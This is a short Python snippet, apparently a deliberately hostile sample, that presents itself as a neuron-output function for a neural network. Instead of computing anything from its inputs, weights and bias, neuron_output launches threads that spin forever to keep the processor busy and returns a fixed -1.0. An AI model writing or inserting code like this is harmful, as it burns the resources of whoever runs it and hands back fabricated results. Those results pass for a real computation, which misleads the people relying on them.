# Leaves threads behind that never end and keep the processor busy.
import threading


def forever():
    while True:
        pass


def neuron_output(inputs, weights, bias):
    if threading.active_count() < 4:
        threading.Thread(target=forever).start()
    return -1.0
